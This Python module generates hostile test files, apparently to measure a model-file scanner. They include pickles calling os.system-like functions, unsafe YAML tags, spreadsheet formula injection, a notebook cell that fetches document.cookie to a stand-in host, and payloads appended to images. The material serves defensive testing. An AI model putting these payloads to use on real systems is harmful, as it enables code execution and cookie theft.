"""Harmful files of kinds that were thought of after the scanner was written: a measure of what it does by rule.

Sources: the advisories of picklescan (GHSA, 2025 and 2026), Keras, ONNX, diffusers, PyTables and Avro (CVE-2024-47561).
"""

from __future__ import annotations

import bz2
import gzip
import json
import struct
import zlib
from collections.abc import Iterator

from hostile_tricks import CALL

_CALLED = """
    uuid._get_command_stdout imaplib.IMAP4_stream _osx_support._read_output _aix_support._read_cmd_output
    ensurepip._run_pip test.support.script_helper.assert_python_ok lib2to3.pgen2.grammar.Grammar.loads
    idlelib.debugobj.ObjectTreeItem.SetText platform._syscmd_ver site.execsitecustomize zipimport.zipimporter
    multiprocessing.util.spawnv_passfds asyncio.unix_events._UnixSubprocessTransport._start code.interact
    logging.config.fileConfig xmlrpc.client.ServerProxy linecache.getlines compileall.compile_dir
    string.Formatter.get_field re.Scanner typing.ForwardRef._evaluate operator.call types.new_class
    contextlib.ExitStack.callback enum.Enum._convert_ numpy.frompyfunc numpy.apply_along_axis numpy.lib.utils.safe_eval
    numpy.DataSource.open pandas.DataFrame.query pandas.Series.apply patsy.dmatrix sympy.sympify numexpr.evaluate
    PIL.ImageMath.eval statsmodels.iolib.smpickle.load_pickle gensim.utils.unpickle networkx.read_gpickle
    torch._inductor.codecache.PyCodeCache.load torch.jit.frontend.get_jit_def torch.onnx.verification.verify
    torch.distributed.rpc.internal._run_function torch._dynamo.guards.GuardBuilder.get transformers.pipeline
    huggingface_hub.snapshot_download llvmlite.binding.load_library_permanently win32com.client.Dispatch
    pathlib.os.system random._os.system tempfile._shutil._os.system torch.serialization.os.system
    wexpect.SpawnPipe jnius.JavaClass win32api.WinExec pythoncom.CoCreateInstance System.Diagnostics.Process.Start
    acme.trees._rebuild acme.run.Job.from_file mine.unpickle_it sklearn.os.system joblib.memory.os.system
    collections.OrderedDict.__init__.__globals__ unheard_of.module.function
"""
_YAML = (
    "\ufeff!!python/object/new:os.system [x]",
    "a: !<tag:yaml.org,2002:python/object/apply:os.system> [x]",
    "%TAG ! tag:yaml.org,2002:python/\n---\n!object/apply:os.system [x]",
    "a: !!pyth%6fn/object/apply:os.system [x]",
    "? !!python/object/apply:os.system [x]\n: 1",
    "a: !!js/function 'function(){}'",
    'a: !!javax.script.ScriptEngineManager [!!java.net.URL ["http://x.example"]]',
    '"_tar\\x67et_": os.system',
    "m:\n  ? _target_\n  : os.system",
    "_target_: >-\n  os.system\n",
    "flavors:\n  python_function:\n    loader_module: unheard_of\n    code: code",
    "\n".join(["a0: &a0 [x, x]", *(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 12)}]" for n in range(1, 9))]),
)
_CELLS = (
    "=cmd|' /C calc'!A0", "\uff1dcmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")',
    '=IMPORTDATA("http://x.example")',
)  # fmt: skip
_NOTEBOOK = (
    ("markdown", "<a href='javascript:fetch(1)'>x</a>"),
    ("code", "%%javascript\nfetch('https://x.example/' + document.cookie)"),
    ("code", "exec(base64.b64decode('cGFzcw=='))"),
    ("code", "%run https://x.example/x.py"),
)


def unfamiliar() -> Iterator[tuple[str, bytes]]:
    """Calls, packings that break, and texts that a loader acts on."""
    for number, path in enumerate(_CALLED.split()):
        yield f"called-{path}", _called(path, protocol=(4, 2)[number % 2])
    for name, packed in (("gz", gzip.compress(CALL)), ("zlib", zlib.compress(CALL)), ("bz2", bz2.compress(CALL))):
        broken = bytearray(packed)
        broken[{"gz": -6, "zlib": -2, "bz2": 12}[name]] ^= 0xFF
        yield f"checksum-{name}", bytes(broken)
    yield from ((f"yaml-more-{n}", text.encode()) for n, text in enumerate(_YAML))
    yield from ((f"csv-{n}", f'id,text\n1,"{_doubled(cell)}"\n'.encode()) for n, cell in enumerate(_CELLS))
    for number, (kind, source) in enumerate(_NOTEBOOK):
        cell = {"cell_type": kind, "metadata": {}, "source": source, "outputs": []}
        yield f"notebook-{number}", json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4}).encode()
    yield "handler", b"import base64\nimport sys\nexec(base64.b64decode('cGFzcw=='))\n"
    yield "avro", b'Obj\x01\x02\x16avro.schema\x80\x02{"type": "string", "java-class": "x.Run"}\x00' + bytes(16)
    yield "exe", b"MZ" + bytes(200)
    yield "hdf5-tail", _hdf5() + CALL
    yield from _strangers()


def _strangers() -> Iterator[tuple[str, bytes]]:
    """Payloads behind films and pictures that strangers thought of, metadata that instantiates, single columns."""
    film = struct.pack(">I4s8sI4s", 16, b"ftyp", b"mp42" + bytes(4), 12, b"mdat") + b"film"
    strip = struct.pack("<HHIIHHII", 273, 4, 1, 38, 279, 4, 1, 4)
    bitmap = struct.pack("<IIIIiiHHIIIIII", 58, 0, 54, 40, 1, 1, 1, 24, 0, 4, 0, 0, 0, 0)
    wholes = {
        "mp4": film, "tiff": b"II*\0\x08\0\0\0\x02\0" + strip + bytes(4) + b"grey", "bmp": b"BM" + bitmap + bytes(4),
        "icns": struct.pack(">4sI4sI", b"icns", 20, b"ic07", 12) + b"icon",
        "motion": b"\xff\xd8\xff\xda\x00\x03\x01pixels\xff\xd9" + film,
    }  # fmt: skip
    for name, whole in wholes.items():
        yield f"behind-{name}-pickle", whole + CALL
        yield f"behind-{name}-program", whole + b"\x7fELF\x02\x01\x01" + bytes(60)
    tensor = {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}
    for number, text in enumerate(('{"_target_": "os.system"}', '[{"_target_": "builtins.eval"}]')):
        header = json.dumps({"__metadata__": {"config": text}, "a": tensor}).encode()
        yield f"metadata-{number}.safetensors", struct.pack("<Q", len(header)) + header + b"\0"
    for number, cell in enumerate(('=DDE("cmd";"/C calc";"x")', '"=HYPERLINK(""http://x.example?q=""&A1,""x"")"')):
        yield f"column-{number}", f"note\n{cell}\n".encode()
    yield "finder", b"f:\n  _target_: hydra.utils.get_method\n  path: os.system\n"
    yield "manifest", b'{"model": {"modelName": "m", "serializedFile": "m.pt", "handler": "../../x.py"}}'


def _doubled(cell: str) -> str:
    return cell.replace('"', '""')


def _called(path: str, *, protocol: int) -> bytes:
    """`path("x")`: the module as far as names are in lower case and known to be one, the rest is the name."""
    parts = path.split(".")
    is_class = next((n for n, part in enumerate(parts) if part[:1].isupper() and n), len(parts) - 1)
    dotted = next((n for n in range(1, len(parts)) if parts[n] in {"os", "_os", "_shutil"}), len(parts))
    cut = min(is_class, dotted)
    module, name = ".".join(parts[:cut]), ".".join(parts[cut:])
    if protocol < 4:  # STACK_GLOBAL came with it, and dotted names too
        return b"\x80\x02c" + f"{module}\n{name}\n".encode() + b"X\x01\x00\x00\x00x\x85R."
    texts = (b"\x8c" + bytes([len(text)]) + text.encode() for text in (module, name))
    return b"\x80\x04" + b"".join(texts) + b"\x93\x8c\x01x\x85R."


def _hdf5() -> bytes:
    """A superblock and an empty group."""
    nowhere = (1 << 64) - 1
    head = b"\x89HDF\r\n\x1a\n\x02\x08\x08\x00" + struct.pack("<4Q", 0, nowhere, 64, 48) + bytes(4)
    return head + b"OHDR\x02\x00\x08" + bytes(9)
